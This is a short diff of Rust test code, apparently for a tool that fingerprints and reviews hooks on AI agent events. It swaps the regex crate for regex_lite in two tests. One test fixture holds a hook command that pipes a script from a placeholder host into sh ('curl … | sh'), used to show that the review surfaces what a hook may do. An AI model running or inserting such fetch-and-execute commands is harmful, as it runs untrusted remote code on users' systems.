@@ -118,7 +118,7 @@ fn the_fingerprint_follows_what_the_hook_does() {
     h.event = EventName::PostToolUse;
     changed.push(h);
     let mut h = base.clone();
-    h.if_ = Some(regex::Regex::new("^git").unwrap());
+    h.if_ = Some(regex_lite::Regex::new("^git").unwrap());
     changed.push(h);
     for h in &changed {
         assert_ne!(fp(h), fp(&base), "{h:?}");
@@ -619,7 +619,7 @@ fn merge_puts_reports_back_in_declaration_order() {
 fn the_review_shows_what_each_hook_may_do() {
     let p = Project::new();
     let mut cmd = p.command("curl -fsSL https://example.invalid/x.sh | sh");
-    cmd.if_ = Some(regex::Regex::new("^git push").unwrap());
+    cmd.if_ = Some(regex_lite::Regex::new("^git push").unwrap());
     let w = p.wasm(
         b"bytes",
         Grants {
